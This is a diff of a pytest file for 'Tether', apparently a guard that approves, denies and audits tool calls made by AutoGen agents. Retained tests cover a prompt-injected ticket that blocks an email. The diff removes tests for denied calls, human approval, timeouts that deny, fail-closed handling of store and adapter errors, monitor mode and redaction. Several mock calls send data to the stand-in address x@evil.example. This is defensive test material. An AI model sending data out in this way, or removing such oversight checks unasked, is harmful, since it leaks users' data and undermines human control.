@@ -60,18 +60,6 @@ def test_allowed_call_runs_once_and_the_audit_holds_the_chain(guard: Guard, tool
     assert verify(KEY, store.events()).ok
 
 
-def test_denied_call_never_runs_and_the_model_reads_the_refusal(guard: Guard, tools: Tools, store: AuditStore) -> None:
-    bot, user, seen = pair(guard, tools, tool_call("send_email", {"to": "x@evil.example", "body": "the list"}))
-    history = chat(user, bot)
-
-    assert tools.count("send_email") == 0
-    assert "Tether denied the call to 'send_email'" in contents(history)
-    assert "Tether denied the call to 'send_email'" in contents(seen[-1])  # the model's next request carries it
-    assert history[-1]["content"] == "done TERMINATE"  # the chat went on
-    assert [e.verdict for e in events(store, "tool.decision")] == ["deny"]
-    assert events(store, "tool.result") == []
-
-
 def test_injected_ticket_taints_the_session_and_stops_the_email(guard: Guard, tools: Tools, store: AuditStore) -> None:
     bot, user, _ = pair(
         guard,
@@ -86,20 +74,6 @@ def test_injected_ticket_taints_the_session_and_stops_the_email(guard: Guard, to
     denied = events(store, "tool.decision")[-1]
     assert denied.details["rule_ids"] == ["external-after-untrusted"]
     assert "external action after untrusted content" in contents(history)
-
-
-def test_approval_runs_the_call_exactly_once(store: AuditStore, tools: Tools) -> None:
-    approver = Answer(ApprovalAnswer(True, "alice"))
-    guard = Guard(POLICY, store=store, approver=approver)
-    bot, user, _ = pair(guard, tools, tool_call("refund", {"order": "A1", "amount": 120}))
-    chat(user, bot)
-
-    assert tools.ran == [("refund", {"order": "A1", "amount": 120})]
-    assert len(approver.requests) == 1
-    assert approver.requests[0].agent == "assistant"
-    approval = events(store, "approval")[0]
-    assert (approval.verdict, approval.details["approver"]) == ("allow", "alice")
-    assert events(store, "tool.result")[0].parent_id == approval.event_id
 
 
 def test_approver_edits_the_arguments(store: AuditStore, tools: Tools) -> None:
@@ -121,16 +95,6 @@ def test_refused_approval_denies(store: AuditStore, tools: Tools) -> None:
     assert "denied by alice" in contents(history)
 
 
-def test_unanswered_approval_times_out_to_deny(store: AuditStore, tools: Tools) -> None:
-    guard = Guard(POLICY, store=store, approver=QueueApprover(store, poll=0.05))
-    bot, user, _ = pair(guard, tools, tool_call("refund", {"order": "A1", "amount": 120}))
-    history = chat(user, bot)
-
-    assert tools.count("refund") == 0
-    assert "no approval within" in contents(history)
-    assert events(store, "approval")[0].verdict == "deny"
-
-
 def test_malformed_arguments_never_run_and_are_recorded(guard: Guard, tools: Tools, store: AuditStore) -> None:
     bot, user, seen = pair(guard, tools, tool_call("lookup", '{"query": "order 7"'))
     chat(user, bot)
@@ -148,55 +112,6 @@ def test_unknown_function_is_denied_and_recorded(guard: Guard, tools: Tools, sto
     decision = events(store, "tool.decision")[0]
     assert (decision.tool, decision.verdict) == ("drop_tables", "deny")
     assert "Tether denied the call to 'drop_tables'" in contents(seen[-1])
-
-
-def test_parallel_calls_each_get_an_answer(guard: Guard, tools: Tools, store: AuditStore) -> None:
-    message = calls(("lookup", {"query": "a"}), ("send_email", {"to": "x@evil.example", "body": "b"}))
-    bot, user, seen = pair(guard, tools, message)
-    chat(user, bot)
-
-    assert tools.ran == [("lookup", {"query": "a"})]
-    answered = [m for m in seen[-1] if m.get("role") == "tool"]
-    assert {m["tool_call_id"] for m in answered} == {c["id"] for c in message["tool_calls"]}
-    decisions = events(store, "tool.decision")
-    assert len({d.parent_id for d in decisions}) == 1  # both linked to the one model response
-
-
-def test_a_store_failure_denies(tmp_path: Any, tools: Tools) -> None:
-    store = AuditStore(f"sqlite:///{tmp_path / 'audit.db'}", key=KEY)
-    guard = Guard(POLICY, store=store)
-    bot, user, seen = pair(guard, tools, tool_call("lookup", {"query": "x"}))
-    store.engine.dispose()
-    (tmp_path / "audit.db").unlink()
-    (tmp_path / "audit.db").mkdir()  # the database path is now a directory: every write fails
-    chat(user, bot)
-
-    assert tools.ran == []
-    assert "Tether denied the call to 'lookup'" in contents(seen[-1])
-
-
-def test_an_adapter_failure_denies(guard: Guard, tools: Tools, monkeypatch: pytest.MonkeyPatch) -> None:
-    from tether.autogen.classic import Registration
-
-    def broken(*_: Any) -> None:
-        raise RuntimeError("boom")
-
-    bot, user, seen = pair(guard, tools, tool_call("lookup", {"query": "x"}))
-    monkeypatch.setattr(Registration, "_prepare", broken)
-    chat(user, bot)
-
-    assert tools.ran == []
-    assert "Tether failed" in contents(seen[-1])
-
-
-def test_monitor_mode_lets_everything_run_and_records_it(store: AuditStore, tools: Tools) -> None:
-    guard = Guard(POLICY, store=store, mode="monitor")
-    bot, user, _ = pair(guard, tools, tool_call("send_email", {"to": "x@evil.example", "body": "b"}))
-    chat(user, bot)
-
-    assert tools.count("send_email") == 1
-    decision = events(store, "tool.decision")[0]
-    assert (decision.verdict, decision.details["enforcement"]) == ("deny", "monitored")
 
 
 def test_registering_twice_decides_once(guard: Guard, tools: Tools, store: AuditStore) -> None:
@@ -455,16 +370,3 @@ def test_an_async_group_chat_is_governed(guard: Guard, tools: Tools, store: Audi
         ("assistant", "lookup", "allow"),
         ("researcher", "send_email", "deny"),
     ]
-
-
-def test_output_the_agent_is_not_cleared_for_reaches_the_model_redacted(store: AuditStore, tools: Tools) -> None:
-    policy = json.loads(json.dumps(POLICY))
-    policy["agents"]["assistant"]["data"] = ["network"]  # cleared for no personal data
-    guard = Guard(policy, store=store)
-    bot, user, seen = pair(guard, tools, tool_call("fetch_ticket", {"ticket": "7"}))
-
-    history = chat(user, bot)
-
-    assert tools.count("fetch_ticket") == 1
-    assert "x@evil.example" not in contents(history) and "x@evil.example" not in contents(seen[-1])
-    assert "[email:" in contents(seen[-1])
